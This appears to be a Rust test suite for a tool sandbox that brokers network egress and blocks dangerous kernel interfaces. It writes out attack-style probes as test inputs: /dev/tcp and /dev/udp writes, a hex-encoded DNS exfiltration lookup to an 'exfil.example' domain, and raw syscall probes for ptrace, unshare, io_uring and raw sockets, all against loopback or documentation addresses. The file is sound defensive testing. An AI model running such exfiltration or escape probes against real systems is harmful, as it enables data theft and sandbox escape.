//! Native tools' egress through the broker, and the kernel-level attack classes. Positive
//! controls run the same attack unconfined on the host (or with the capability granted), and
//! every verdict comes from what a loopback listener received.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;
use std::process::Command;
use support::*;

fn bash(flags: &[&str], script: &str) -> Run {
    let mut args = vec!["run"];
    args.extend_from_slice(flags);
    args.extend(["/bin/bash", "--", "-c", script]);
    run(&args)
}

fn python(flags: &[&str], code: &str) -> Run {
    let mut args = vec!["run"];
    args.extend_from_slice(flags);
    args.extend(["/usr/bin/python3", "--", "-c", code]);
    run(&args)
}

fn host_bash(script: &str) -> std::process::Output {
    Command::new("/bin/bash").args(["-c", script]).output().unwrap()
}

#[test]
fn tcp_by_ip_reaches_a_declared_endpoint_through_a_relay() {
    let sink = TcpSink::start("127.0.0.1");
    let ep = sink.addr.to_string();
    let send = |tag: &str| format!("echo {tag} > /dev/tcp/127.0.0.1/{}", sink.addr.port());
    let r = bash(&[], &send("undeclared"));
    assert_ne!(r.code, 0);
    assert!(!sink.received().contains("undeclared"));
    let r = bash(&["--allow-net", &ep], &send("declared"));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(sink.received().contains("declared\n"));
    assert!(r.audit.iter().any(|e| e["event"] == "allow" && e["capability"] == "net.connect"));
}

/// The supervisor makes every `connect` itself: from a thread that does not lead its process
/// (a server's worker thread) too. Undeclared, the same thread's connection reaches nothing.
#[test]
fn a_connect_from_a_worker_thread_reaches_a_declared_endpoint() {
    let sink = TcpSink::start("127.0.0.1");
    let ep = sink.addr.to_string();
    let code = |tag: &str| {
        format!(
            "import socket, sys, threading\n\
             done = []\n\
             def go():\n    socket.create_connection(('127.0.0.1', {}), timeout=5).sendall(b'{tag}\\n'); done.append(1)\n\
             t = threading.Thread(target=go); t.start(); t.join(); sys.exit(0 if done else 1)",
            sink.addr.port()
        )
    };
    let r = python(&[], &code("undeclared"));
    assert_ne!(r.code, 0, "{}", r.stderr);
    let r = python(&["--allow-net", &ep], &code("declared"));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let got = sink.received();
    assert!(got.contains("declared\n") && !got.contains("undeclared"), "{got}");
}

#[test]
fn another_ip_on_a_declared_port_is_refused_by_the_broker() {
    // The listener on 127.0.0.2 takes its own port; the grant names that port on 127.0.0.1.
    let other = TcpSink::start("127.0.0.2");
    let port = other.addr.port();
    let send = format!("echo sneaky > /dev/tcp/127.0.0.2/{port}");
    // The relay inside accepts the connection (it cannot know the destination before), then
    // the broker refuses it: the listener is the judge.
    let r = bash(&["--allow-net", &format!("127.0.0.1:{port}")], &send);
    assert_eq!(other.connections(), 0, "{}", other.received());
    assert_eq!(r.denials("net.connect")[0]["target"], format!("tcp://{}", other.addr));
    // Positive control: declared, the same connection arrives.
    let r = bash(&["--allow-net", &other.addr.to_string()], &send);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(other.received().contains("sneaky"));
}

#[test]
fn names_resolve_only_when_declared_and_no_query_leaves_for_others() {
    let sink = TcpSink::start("127.0.0.1");
    // The server answers a documentation address: public, never dialled.
    let dns = DnsSink::start(Some("203.0.113.7".parse().unwrap()));
    let port = sink.addr.port();
    let resolver = dns.addr.to_string();
    let ep = format!("svc.example.net:{port}");
    // A declared, pinned name leads to the listener.
    let r = bash(
        &["--allow-net", &ep, "--resolve", "svc.example.net:127.0.0.1"],
        &format!("echo by-name > /dev/tcp/svc.example.net/{port}"),
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(sink.received().contains("by-name"));
    // An undeclared name: NXDOMAIN inside, and the DNS server never hears of it.
    let r = bash(
        &["--resolver", &resolver, "--allow-net", &ep],
        "getent hosts 736563726574.exfil.example || echo nxdomain",
    );
    assert!(r.stdout.contains("nxdomain"), "{}", r.stdout);
    assert!(dns.questions().is_empty(), "{:?}", dns.questions());
    // Positive control: declared by pattern, the query (with its payload) reaches the server.
    let r = bash(
        &["--resolver", &resolver, "--allow-net", "*.exfil.example:443"],
        "getent hosts 736563726574.exfil.example",
    );
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(dns.questions().iter().any(|q| q == "736563726574.exfil.example"));
}

#[test]
fn the_http_proxy_checks_each_origin() {
    let web = HttpSink::start(None);
    let other = HttpSink::start(None);
    let fetch = |url: &str| {
        format!(
            "import urllib.request\ntry:\n print(urllib.request.urlopen('{url}').read().decode())\nexcept Exception as e:\n print('blocked', e)"
        )
    };
    let origin = format!("http://{}", web.addr);
    let r = python(&["--allow-net", &origin], &fetch(&web.url("/ok")));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains(&format!("hello from {}", web.addr.port())), "{}", r.stdout);
    assert!(web.requests()[0].starts_with("GET /ok "));
    let r = python(&["--allow-net", &origin], &fetch(&other.url("/stolen")));
    assert!(r.stdout.contains("blocked") && r.stdout.contains("403"), "{}", r.stdout);
    assert!(other.requests().is_empty());
    assert_eq!(r.denials("net.http").len(), 1);
}

#[test]
fn ipv6_loopback_reaches_only_a_declared_endpoint() {
    let v6 = TcpSink::start("::1");
    let send = format!("echo over-v6 > /dev/tcp/::1/{}", v6.addr.port());
    let other = TcpSink::start("127.0.0.1");
    // Declared something else: nothing arrives.
    bash(&["--allow-net", &other.addr.to_string()], &send);
    assert!(v6.received().is_empty());
    let r = bash(&["--allow-net", &format!("[::1]:{}", v6.addr.port())], &send);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(v6.received().contains("over-v6"));
}

#[test]
fn udp_and_ipv6_do_not_leave() {
    let udp = UdpSink::start();
    let v6 = TcpSink::start("::1");
    let send_udp = format!("echo datagram > /dev/udp/127.0.0.1/{}", udp.addr.port());
    let send_v6 = format!("echo v6 > /dev/tcp/::1/{}", v6.addr.port());
    // Controls: on the host both arrive.
    host_bash(&send_udp);
    host_bash(&send_v6);
    assert_eq!(udp.received(), vec!["datagram\n"]);
    assert!(v6.received().contains("v6"));
    let udp = UdpSink::start();
    let v6 = TcpSink::start("::1");
    bash(&[], &format!("echo datagram > /dev/udp/127.0.0.1/{}", udp.addr.port()));
    bash(&[], &format!("echo v6 > /dev/tcp/::1/{}", v6.addr.port()));
    assert!(udp.received().is_empty());
    assert!(v6.received().is_empty());
}

/// Python that calls a raw syscall and prints its result (negative errno on failure).
fn syscall_probe(body: &str) -> String {
    format!(
        "import ctypes, os, socket\nlibc = ctypes.CDLL(None, use_errno=True)\ndef sc(*a):\n r = libc.syscall(*a)\n return r if r >= 0 else -ctypes.get_errno()\n{body}"
    )
}

#[test]
fn dangerous_kernel_interfaces_are_refused() {
    let probes = [
        // (what, python that prints "ok" when the attack works)
        ("netlink socket", "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print('ok')"),
        ("io_uring_setup", "p = ctypes.create_string_buffer(120); print('ok' if sc(425, 4, p) >= 0 else 'no')"),
        ("ptrace", "print('ok' if sc(101, 0, 0, 0, 0) == 0 else 'no')"),
        ("unshare", "print('ok' if sc(272, 0x10000000) == 0 else 'no')"),
        ("personality", "print('ok' if sc(135, 0xffffffff) >= 0 else 'no')"),
    ];
    for (what, code) in probes {
        let code = syscall_probe(&format!("try:\n {code}\nexcept Exception as e:\n print('no', e)"));
        // Control: unconfined, the interface is there.
        let host = Command::new("/usr/bin/python3").args(["-c", &code]).output().unwrap();
        assert!(
            String::from_utf8_lossy(&host.stdout).starts_with("ok"),
            "{what} control: {}",
            String::from_utf8_lossy(&host.stdout)
        );
        let r = python(&[], &code);
        assert!(r.stdout.starts_with("no"), "{what} must be refused: {}{}", r.stdout, r.stderr);
    }
}

#[test]
fn host_processes_cannot_be_signalled() {
    let mut victim = Command::new("/bin/sleep").arg("30").spawn().unwrap();
    let pid = victim.id();
    let r = bash(&[], &format!("kill -TERM {pid} && echo killed || echo refused"));
    assert!(r.stdout.contains("refused"), "{}", r.stdout);
    assert!(victim.try_wait().unwrap().is_none(), "the host process must still run");
    // Control: unconfined, the same kill works.
    assert!(host_bash(&format!("kill -TERM {pid}")).status.success());
    assert!(victim.wait().is_ok());
}

#[test]
fn another_port_on_a_declared_ip_is_refused() {
    let declared = TcpSink::start("127.0.0.1");
    let other = TcpSink::start("127.0.0.1");
    let send = format!("echo other-port > /dev/tcp/127.0.0.1/{}", other.addr.port());
    let r = bash(&["--allow-net", &declared.addr.to_string()], &send);
    assert_ne!(r.code, 0);
    assert!(other.received().is_empty());
    // Positive control: declared, it arrives.
    let r = bash(&["--allow-net", &other.addr.to_string()], &send);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(other.received().contains("other-port"));
}

#[test]
fn host_unix_sockets_pathname_and_abstract_are_unreachable() {
    let dir = tempfile::tempdir().unwrap();
    let path = std::fs::canonicalize(dir.path()).unwrap().join("daemon.sock");
    let abstract_name = format!("mcp-sandbox-test-{}", std::process::id());
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    let abstract_addr = <std::os::unix::net::SocketAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(
        abstract_name.as_bytes(),
    )
    .unwrap();
    let abstract_listener = std::os::unix::net::UnixListener::bind_addr(&abstract_addr).unwrap();
    let code = format!(
        "import socket\nfor target in ['{}', '\\0{abstract_name}']:\n s = socket.socket(socket.AF_UNIX)\n try:\n  s.connect(target); print('connected')\n except OSError as e:\n  print('refused', e.errno)",
        path.display()
    );
    // Control: on the host, both connect.
    let host = Command::new("/usr/bin/python3").args(["-c", &code]).output().unwrap();
    assert_eq!(
        String::from_utf8_lossy(&host.stdout).matches("connected").count(),
        2,
        "{}",
        String::from_utf8_lossy(&host.stdout)
    );
    let r = python(&[], &code);
    assert_eq!(r.stdout.matches("refused").count(), 2, "{}{}", r.stdout, r.stderr);
    drop((listener, abstract_listener));
}

/// Socket kinds outside the seccomp rule (AF_UNIX, and TCP and UDP over IPv4 and IPv6): `(what,
/// python arguments of socket.socket, whether creating one needs CAP_NET_RAW)`. The tool never
/// holds a capability, so a refusal of the first two could come from the kernel's capability
/// check alone; AF_VSOCK needs none, so only the filter stops it. Each refusal must be the
/// filter's own: it audits it as a `syscall` denial of `socket` (41).
const FORBIDDEN_SOCKETS: &[(&str, &str, bool)] = &[
    ("raw IPv4", "socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP", true),
    ("packet", "socket.AF_PACKET, socket.SOCK_DGRAM, 0", true),
    ("vsock", "socket.AF_VSOCK, socket.SOCK_STREAM, 0", false),
];

#[test]
fn raw_sockets_are_refused() {
    let mut code = String::from("import socket\n");
    for (what, args, _) in FORBIDDEN_SOCKETS {
        code.push_str(&format!(
            "try:\n socket.socket({args}); print('{what}: ok')\nexcept OSError as e:\n print('{what}: no', e.errno)\n"
        ));
    }
    // Controls: unconfined, each is created (the capability ones only by root, as in CI).
    let host = Command::new("/usr/bin/python3").args(["-c", &code]).output().unwrap();
    let host = String::from_utf8_lossy(&host.stdout);
    for (what, _, needs_cap) in FORBIDDEN_SOCKETS {
        if host.contains(&format!("{what}: ok")) {
            continue;
        }
        assert!(*needs_cap && !is_root(), "{what} control: {host}");
        skipped(
            "raw_sockets_are_refused",
            &format!(
                "{what} needs CAP_NET_RAW on the host, so its unconfined control cannot run (the sandbox is still checked)"
            ),
        );
    }
    let r = python(&[], &code);
    for (what, _, _) in FORBIDDEN_SOCKETS {
        assert!(
            r.stdout.contains(&format!("{what}: no 1\n")),
            "{what} must fail with EPERM: {:?} {}",
            r.stdout,
            r.stderr
        );
    }
    let denied: Vec<_> = r.denials("syscall").into_iter().filter(|e| e["target"] == "41").collect();
    assert_eq!(denied.len(), FORBIDDEN_SOCKETS.len(), "the seccomp filter refused each: {:?}", r.audit);
}

#[test]
fn udp_reaches_only_declared_udp_endpoints() {
    let sink = UdpSink::start();
    let port = sink.addr.port();
    let send = |host: &str| format!("echo dgram-{host} > /dev/udp/{host}/{port}");
    // A tcp:// endpoint does not cover UDP.
    bash(&["--allow-net", &format!("tcp://{}", sink.addr)], &send("127.0.0.1"));
    assert!(sink.received().is_empty());
    // Declared by address, and by a pinned name, the datagrams arrive.
    let r = bash(&["--allow-net", &format!("udp://{}", sink.addr)], &send("127.0.0.1"));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let name_ep = format!("udp://dgram.example.net:{port}");
    let r = bash(&["--allow-net", &name_ep, "--resolve", "dgram.example.net:127.0.0.1"], &send("dgram.example.net"));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(sink.received(), vec!["dgram-127.0.0.1\n", "dgram-dgram.example.net\n"]);
}

#[test]
fn every_port_of_a_declared_range_is_relayed_and_no_other() {
    let sink = TcpSink::start("127.0.0.1");
    let p = sink.addr.port();
    let range = format!("tcp://127.0.0.1:{}-{}", p - 3, p.saturating_add(3));
    let outside = TcpSink::start("127.0.0.1");
    assert!(outside.addr.port().abs_diff(p) > 3, "pick another port");
    let send = |port: u16| format!("echo ranged-{port} > /dev/tcp/127.0.0.1/{port}");
    let r = bash(&["--allow-net", &range], &send(p));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(sink.received().contains(&format!("ranged-{p}")));
    let r = bash(&["--allow-net", &range], &send(outside.addr.port()));
    assert_ne!(r.code, 0);
    assert!(outside.received().is_empty());
    // Positive control: declared, the port outside the range is reached the same way.
    let r = bash(&["--allow-net", &outside.addr.to_string()], &send(outside.addr.port()));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(outside.received().contains("ranged-"));
}

#[test]
fn a_range_wider_than_the_relay_bound_is_refused_before_the_tool_runs() {
    for ep in ["127.0.0.1:1-65535", "tcp://api.example.com:*", "10.0.0.0/16:53", "udp://*.example.test:*"] {
        let r = bash(&["--allow-net", ep], "echo ran");
        assert_eq!(r.code, 125, "{ep}: {}", r.stderr);
        assert!(!r.stdout.contains("ran"), "{ep}: the tool must not start");
        let line = r.stderr.trim();
        assert!(!line.contains('\n') && line.contains(&format!("endpoint `{ep}` needs a")), "{line}");
        assert!(line.contains("at most 512") && line.contains("narrow"), "{line}");
    }
    // Controls: 512 ports run, and an HTTP origin on any port is the proxy's.
    for ep in ["tcp://127.0.0.1:20000-20511", "https://api.example.com:*"] {
        let r = bash(&["--allow-net", ep], "echo ran");
        assert_eq!((r.code, r.stdout.as_str()), (0, "ran\n"), "{ep}: {}", r.stderr);
    }
}

#[test]
fn literal_non_loopback_addresses_reach_the_broker() {
    // Documentation addresses, never this host's: the broker's outside dial goes nowhere, but
    // its audit record shows the tool's connection was routed to a relay and checked.
    let mut targets = vec![("203.0.113.7", "203.0.113.8")];
    if std::path::Path::new("/proc/net/if_inet6").exists() {
        targets.push(("2001:db8::7", "2001:db8::8"));
    }
    for (declared, other) in targets {
        let port = 47_123;
        let ep = |ip: &str| if ip.contains(':') { format!("[{ip}]:{port}") } else { format!("{ip}:{port}") };
        let code = |ip: &str| {
            let fam = if ip.contains(':') { "AF_INET6" } else { "AF_INET" };
            format!(
                "import socket\ns = socket.socket(socket.{fam})\ntry:\n s.connect(('{ip}', {port})); print('connected')\nexcept OSError as e:\n print('failed', e.errno)"
            )
        };
        let r = python(&["--allow-net", &format!("tcp://{}", ep(declared))], &code(other));
        assert!(r.stdout.starts_with("failed"), "{other} is not routed: {}{}", r.stdout, r.stderr);
        let r = python(&["--allow-net", &format!("tcp://{}", ep(declared))], &code(declared));
        assert!(r.stdout.starts_with("connected"), "{declared}: {}{}", r.stdout, r.stderr);
        let target = format!("tcp://{}", ep(declared));
        assert!(
            r.audit.iter().any(|e| e["event"] == "allow" && e["capability"] == "net.connect" && e["target"] == target),
            "{:?}",
            r.audit
        );
    }
}

#[test]
fn this_hosts_own_non_loopback_addresses_are_reached_by_cidr_and_literal() {
    let (v4, v6) = host_addresses();
    if v4.is_none() && v6.is_none() {
        let why = "this host has no non-loopback address to listen on";
        skipped("this_hosts_own_non_loopback_addresses_are_reached_by_cidr_and_literal", why);
    }
    if let Some(ip) = v4 {
        let sink = TcpSink::start(&ip.to_string());
        let send = format!("echo by-cidr > /dev/tcp/{ip}/{}", sink.addr.port());
        // Declared elsewhere: the address is not even routed inside.
        let r = bash(&["--allow-net", &format!("tcp://198.51.100.0/24:{}", sink.addr.port())], &send);
        assert_ne!(r.code, 0);
        assert!(sink.received().is_empty());
        let r = bash(&["--allow-net", &format!("tcp://{ip}/24:{}", sink.addr.port())], &send);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert!(sink.received().contains("by-cidr"));
        let udp = UdpSink::start_at(&format!("{ip}:0"));
        let r = bash(
            &["--allow-net", &format!("udp://{}", udp.addr)],
            &format!("echo dgram > /dev/udp/{ip}/{}", udp.addr.port()),
        );
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert_eq!(udp.received(), vec!["dgram\n"]);
    }
    if let Some(ip) = v6 {
        let sink = TcpSink::start(&ip.to_string());
        let send = format!("echo by-v6 > /dev/tcp/{ip}/{}", sink.addr.port());
        bash(&["--allow-net", &format!("tcp://[2001:db8::1]:{}", sink.addr.port())], &send);
        assert!(sink.received().is_empty());
        let r = bash(&["--allow-net", &format!("[{ip}]:{}", sink.addr.port())], &send);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert!(sink.received().contains("by-v6"));
        let udp = UdpSink::start_at(&format!("[{ip}]:0"));
        let r = bash(
            &["--allow-net", &format!("udp://{}", udp.addr)],
            &format!("echo dgram6 > /dev/udp/{ip}/{}", udp.addr.port()),
        );
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert_eq!(udp.received(), vec!["dgram6\n"]);
    }
}

/// Python that, for each host, resolves it, sends `to-HOST` to it over UDP and prints a line:
/// `HOST ADDRESS REPLY REPLY-SOURCE`, `HOST ADDRESS no-reply`, or `HOST nxdomain`.
fn udp_probe(hosts: &[&str], port: u16) -> String {
    format!(
        "import socket\nfor h in {hosts:?}:\n try:\n  a = socket.gethostbyname(h)\n except OSError:\n  print(h, 'nxdomain'); continue\n s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n s.settimeout(0.5)\n s.sendto(('to-' + h).encode(), (a, {port}))\n try:\n  d, src = s.recvfrom(100); print(h, a, d.decode(), src[0])\n except OSError:\n  print(h, a, 'no-reply')"
    )
}

/// The probe's line for `host`, split in words.
fn probed<'a>(r: &'a Run, host: &str) -> Vec<&'a str> {
    let line = r.stdout.lines().find(|l| l.starts_with(&format!("{host} ")));
    line.unwrap_or_else(|| panic!("no line for {host}: {}{}", r.stdout, r.stderr)).split(' ').collect()
}

#[test]
fn udp_reaches_names_under_a_declared_suffix_and_replies_come_from_the_stand_in() {
    let sink = UdpSink::echoing();
    let port = sink.addr.port();
    let ep = format!("udp://*.example.test:{port}");
    let r = python(
        &["--allow-net", &ep, "--resolve", "svc.example.test:127.0.0.1"],
        &udp_probe(&["svc.example.test"], port),
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let line = probed(&r, "svc.example.test");
    assert!(line[1].starts_with("127.1."), "a stand-in address: {line:?}");
    assert_eq!(line[2..], ["echo:to-svc.example.test", line[1]], "the reply comes back from the stand-in");
    assert_eq!(sink.received(), vec!["to-svc.example.test"]);
    let target = format!("udp://{}", sink.addr);
    let allowed: Vec<_> = r.events("allow").into_iter().filter(|e| e["target"] == target).collect();
    assert_eq!(allowed.len(), 1, "one flow, audited once: {:?}", r.audit);
    assert_eq!(allowed[0]["invocation"], r.events("grant.issued")[0]["invocation"]);
}

#[test]
fn udp_on_a_suffix_port_reaches_nothing_else() {
    let sink = UdpSink::echoing();
    let port = sink.addr.port();
    let (udp_ep, tcp_ep) = (format!("udp://*.example.test:{port}"), format!("tcp://exact.example.net:{port}"));
    let flags =
        ["--allow-net", &udp_ep, "--allow-net", &tcp_ep, "--resolve", "exact.example.net:127.0.0.1", "--resolve"];
    let hosts = ["elsewhere.example.org", "127.0.0.1", "exact.example.net", "svc.example.test"];
    let r = python(&[&flags[..], &["svc.example.test:127.0.0.1"]].concat(), &udp_probe(&hosts, port));
    assert_eq!(r.code, 0, "{}", r.stderr);
    // A name outside the suffix does not resolve; an address that is no stand-in, and the
    // stand-in of a name declared for TCP only, reach the wildcard socket and are denied.
    assert_eq!(probed(&r, "elsewhere.example.org")[1], "nxdomain");
    assert_eq!(probed(&r, "127.0.0.1")[2], "no-reply");
    assert!(probed(&r, "exact.example.net")[1].starts_with("127.1."));
    assert_eq!(probed(&r, "exact.example.net")[2], "no-reply");
    // Positive control, in the same sandbox: a name under the suffix gets through.
    assert_eq!(probed(&r, "svc.example.test")[2], "echo:to-svc.example.test");
    assert_eq!(sink.received(), vec!["to-svc.example.test"]);
    let denied: Vec<String> = r.denials("net.connect").iter().map(|e| e["reason"].to_string()).collect();
    assert_eq!(denied.len(), 2, "{denied:?}");
    assert!(denied[0].contains("not a stand-in address"), "{denied:?}");
    assert!(denied[1].contains("stand-in address of exact.example.net"), "{denied:?}");
}

#[test]
fn a_tcp_suffix_declaration_does_not_allow_udp() {
    let sink = UdpSink::echoing();
    let port = sink.addr.port();
    let probe = udp_probe(&["svc.example.test"], port);
    let pin = "svc.example.test:127.0.0.1";
    let r = python(&["--allow-net", &format!("tcp://*.example.test:{port}"), "--resolve", pin], &probe);
    assert_eq!(probed(&r, "svc.example.test")[2], "no-reply", "{}", r.stderr);
    assert!(sink.received().is_empty());
    // Positive control: without a scheme the suffix covers UDP too.
    let r = python(&["--allow-net", &format!("*.example.test:{port}"), "--resolve", pin], &probe);
    assert_eq!(probed(&r, "svc.example.test")[2], "echo:to-svc.example.test", "{}", r.stderr);
    assert_eq!(sink.received(), vec!["to-svc.example.test"]);
}

#[test]
fn udp_suffix_sockets_leave_the_dns_stub_and_exact_relays_their_traffic() {
    let sink = UdpSink::echoing();
    let port = sink.addr.port();
    let (suffix, exact) = (format!("udp://*.example.test:{port}"), format!("udp://exact.example.net:{port}"));
    let pins = ["--resolve", "svc.example.test:127.0.0.1", "--resolve", "exact.example.net:127.0.0.1"];
    // A wildcard socket on port 53 too: the stub at 127.0.0.1:53 must still get the queries.
    let flags = ["--allow-net", &suffix, "--allow-net", "udp://*.example.test:53", "--allow-net", &exact];
    let r = python(&[&flags[..], &pins].concat(), &udp_probe(&["exact.example.net", "svc.example.test"], port));
    assert_eq!(r.code, 0, "{}", r.stderr);
    for host in ["exact.example.net", "svc.example.test"] {
        let line = probed(&r, host);
        assert_eq!(line[2..], [format!("echo:to-{host}").as_str(), line[1]], "{}", r.stdout);
    }
    assert_eq!(sink.received(), vec!["to-exact.example.net", "to-svc.example.test"]);
    assert!(r.denials("net.connect").is_empty(), "{:?}", r.audit);
}

#[test]
fn tcp_reaches_names_under_a_declared_suffix_without_the_proxy() {
    let sink = TcpSink::start("127.0.0.1");
    let port = sink.addr.port();
    let r = bash(
        &["--allow-net", &format!("tcp://*.example.test:{port}"), "--resolve", "svc.example.test:127.0.0.1"],
        &format!("echo by-suffix > /dev/tcp/svc.example.test/{port}"),
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(sink.received().contains("by-suffix"));
}
